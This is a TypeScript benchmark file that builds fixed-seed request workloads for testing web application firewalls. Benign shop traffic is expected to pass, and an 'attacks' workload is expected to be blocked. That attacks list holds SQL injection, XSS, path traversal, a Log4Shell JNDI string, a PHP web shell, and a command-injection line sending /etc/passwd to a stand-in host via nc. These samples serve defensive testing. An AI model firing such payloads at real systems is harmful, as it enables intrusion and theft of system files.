/**
 * The requests of bench/waf.ts: five workloads, each a list of distinct requests drawn with a fixed
 * seed, so that every run and every contender sees the same bytes and nobody sees one twice soon.
 */

/** One request as the load client reads it. */
export interface BenchRequest {
  readonly method: 'GET' | 'POST'
  readonly path: string
  readonly headers: readonly (readonly [string, string])[]
  readonly body: string
}

/** A kind of traffic, and the status that every contender must give it. */
export interface Workload {
  readonly name: string
  readonly meaning: string
  readonly status: number
  readonly requests: readonly BenchRequest[]
}

/** Numbers from 0 to 1, the same in every run (mulberry32). */
type Draw = () => number

function drawing(seed: number): Draw {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

// No names of shell commands: `time … (` in prose is a hit of rule 932235 in every engine.
const words =
  `about after again along another answer around because before better between bring build bought
  called carry change children city clear close colour could country course cover cross different
  during early earth enough every example family farm father feet figure final first follow found
  friend garden general given good great green group grow half hand happen hard hear heavy
  help high home horse hour house hundred idea important island kitchen knew land language large
  later learn leave letter light line listen little long machine many measure might mile
  money morning mother mountain move music nearby need never night north notice number ocean often
  open order paper part pattern people perhaps picture place plain plant point power present
  problem product provide question quick quite rain reach ready really remember rest river road
  rock room round rule school science season second sentence serve several shape ship short should
  simple slow small snow sometimes song south space special spell spring stand start state
  station still story street strong study summer sure surface table talk teach thing think those
  thought thousand through together toward town travel tree true turn under until usual
  valley village voice walk want warm water weather week weight west while whole window
  winter without wonder word work world write year young it's don't we're that's can't`.split(/\s+/)

const pick = <One>(draw: Draw, list: readonly [One, ...One[]]): One =>
  list[Math.floor(draw() * list.length)] ?? list[0]
const word = (draw: Draw): string => words[Math.floor(draw() * words.length)] ?? 'word'
const plainWord = (draw: Draw): string => word(draw).replace("'", '')
const integer = (draw: Draw, below: number): number => Math.floor(draw() * below)
const hex = (draw: Draw, digits: number): string =>
  Array.from({ length: digits }, () => integer(draw, 16).toString(16)).join('')

/** English-looking text of exactly so many characters, with the marks that people type. */
function prose(draw: Draw, length: number): string {
  let text = ''
  while (text.length < length) {
    const count = 6 + integer(draw, 12)
    const parts = Array.from({ length: count }, (_, at) => {
      const next = word(draw)
      if (at === 0) return next.charAt(0).toUpperCase() + next.slice(1)
      const mark = draw()
      if (mark < 0.08) return `${next},`
      if (mark < 0.1) return `${next} -`
      return mark < 0.13 ? String(integer(draw, 2_000)) : next
    })
    text += `${parts.join(' ')}${pick(draw, ['.', '.', '.', '!', '?'])} `
  }
  return `${text.slice(0, length - 1)}.`
}

const agents = [
  'Windows NT 10.0; Win64; x64',
  'X11; Linux x86_64',
  'Macintosh; Intel Mac OS X 10_15_7',
]

/** Nine headers with Host, and three cookies of which two are this visitor's own. */
function browser(draw: Draw): [string, string][] {
  const system = agents[integer(draw, agents.length)]
  const chrome = 120 + integer(draw, 25)
  const cookies = [
    `sid=${hex(draw, 32)}`,
    `theme=${pick(draw, ['dark', 'light'])}`,
    `visit=${1_700_000_000 + integer(draw, 9e7)}.${integer(draw, 90)}`,
  ]
  return [
    [
      'User-Agent',
      `Mozilla/5.0 (${system}) AppleWebKit/537.36 (KHTML, like Gecko) ` +
        `Chrome/${chrome}.0.0.0 Safari/537.36`,
    ],
    ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8'],
    ['Accept-Language', pick(draw, ['en-GB,en;q=0.9', 'de-DE,de;q=0.9,en;q=0.7', 'fr,en;q=0.5'])],
    ['Accept-Encoding', 'gzip, deflate, br'],
    [
      'Referer',
      `https://shop.example.com/${plainWord(draw)}/${plainWord(draw)}?page=${integer(draw, 99)}`,
    ],
    ['Cookie', cookies.join('; ')],
    ['Sec-Fetch-Mode', 'navigate'],
    ['Sec-Fetch-Site', 'same-origin'],
  ]
}

function page(draw: Draw): BenchRequest {
  const query = new URLSearchParams({
    q: `${plainWord(draw)} ${plainWord(draw)} ${plainWord(draw)}`,
    category: `${plainWord(draw)}-${plainWord(draw)}`,
    page: String(integer(draw, 400)),
    sort: pick(draw, ['price_asc', 'price_desc', 'newest', 'rating']),
    ref: `${plainWord(draw)}${integer(draw, 10_000)}`,
  })
  const place = `${plainWord(draw)}/${plainWord(draw)}-${integer(draw, 1e5)}`
  const path = `/catalogue/${place}?${query.toString()}`
  return { method: 'GET', path, headers: browser(draw), body: '' }
}

function post(draw: Draw, path: string, type: string, body: string): BenchRequest {
  const headers: [string, string][] = [...browser(draw), ['Content-Type', type]]
  return { method: 'POST', path: `${path}/${plainWord(draw)}${integer(draw, 1e6)}`, headers, body }
}

const formBytes = 2_048

function form(draw: Draw): BenchRequest {
  const fields = new URLSearchParams({
    name: `${plainWord(draw)} ${plainWord(draw)}`,
    email: `${plainWord(draw)}.${plainWord(draw)}@example.com`,
    phone: `+44 20 ${1000 + integer(draw, 8999)} ${1000 + integer(draw, 8999)}`,
    company: `${plainWord(draw)} ${plainWord(draw)} Ltd`,
    street: `${integer(draw, 300)} ${plainWord(draw)} street`,
    city: plainWord(draw),
    postcode: `SW${integer(draw, 20)} ${integer(draw, 9)}AB`,
    country: pick(draw, ['GB', 'DE', 'FR', 'ES', 'IT']),
    subject: `${plainWord(draw)} ${plainWord(draw)} ${plainWord(draw)}`,
    newsletter: pick(draw, ['yes', 'no']),
    token: hex(draw, 40),
  })
  const start = `${fields.toString()}&message=`
  const text = new URLSearchParams({ m: prose(draw, formBytes) }).toString().slice(2)
  // Cut so that no escape is halved, and filled up with letters.
  const cut = text.slice(0, formBytes - start.length).replace(/%.?$/, '')
  const body = (start + cut).padEnd(formBytes, 'n')
  return post(draw, '/contact', 'application/x-www-form-urlencoded', body)
}

function orderLines(draw: Draw): BenchRequest {
  const items = Array.from({ length: 61 }, () => ({
    id: integer(draw, 1e7),
    sku: `${plainWord(draw).toUpperCase()}-${hex(draw, 12)}`,
    name: Array.from({ length: 5 }, () => plainWord(draw)).join(' '),
    price: integer(draw, 1e5) / 100,
    quantity: integer(draw, 40),
    available: draw() < 0.8,
    category: `${plainWord(draw)}/${plainWord(draw)}/${plainWord(draw)}`,
    description: prose(draw, 89),
  }))
  return post(draw, '/api/orders', 'application/json', JSON.stringify({ items }))
}

function article(draw: Draw): BenchRequest {
  const names = 'title summary intro body aside notes history review author credits terms footer'
  const texts = names.split(' ').map((name) => [name, prose(draw, 1_325)] as const)
  return post(draw, '/api/articles', 'application/json', JSON.stringify(Object.fromEntries(texts)))
}

const attacks: readonly ((draw: Draw) => string)[] = [
  (draw) => `${integer(draw, 900)}' OR '${integer(draw, 9)}'='${integer(draw, 9)}' -- `,
  (draw) =>
    `-${integer(draw, 900)} UNION SELECT user,pass,${integer(draw, 99)} FROM ${plainWord(draw)}`,
  (draw) => `<script>alert(${integer(draw, 9e5)})</script>`,
  (draw) => `"><img src=${plainWord(draw)} onerror=alert(${integer(draw, 9e5)})>`,
  (draw) => `../../../../../etc/passwd?${plainWord(draw)}`,
  (draw) => `;cat /etc/passwd | nc ${plainWord(draw)}.example.net ${1024 + integer(draw, 6e4)}`,
  (draw) => `\${jndi:ldap://${plainWord(draw)}${integer(draw, 900)}.example.net/a}`,
  (draw) => `<?php system($_GET['${plainWord(draw)}${integer(draw, 99)}']); ?>`,
]

function attack(draw: Draw, index: number): BenchRequest {
  const text = attacks[index % attacks.length]?.(draw) ?? ''
  const query = new URLSearchParams({ id: text, page: String(integer(draw, 99)) })
  const path = `/item/${plainWord(draw)}${integer(draw, 1e5)}?${query.toString()}`
  return { method: 'GET', path, headers: browser(draw), body: '' }
}

/** Workloads by name. */
export function workloads(): readonly Workload[] {
  const many = (seed: number, count: number, make: (draw: Draw, index: number) => BenchRequest) => {
    const draw = drawing(seed)
    return Array.from({ length: count }, (_, index) => make(draw, index))
  }
  return [
    {
      name: 'W1',
      meaning: 'GET, 9 headers, 5 arguments',
      status: 200,
      requests: many(1, 4_096, page),
    },
    {
      name: 'W2',
      meaning: 'form, 2,048 B, 12 fields',
      status: 200,
      requests: many(2, 2_048, form),
    },
    { name: 'W3', meaning: 'JSON, 488 values', status: 200, requests: many(3, 256, orderLines) },
    { name: 'W3b', meaning: 'JSON, 12 long texts', status: 200, requests: many(4, 256, article) },
    { name: 'W4', meaning: 'attacks', status: 403, requests: many(5, 2_048, attack) },
  ]
}
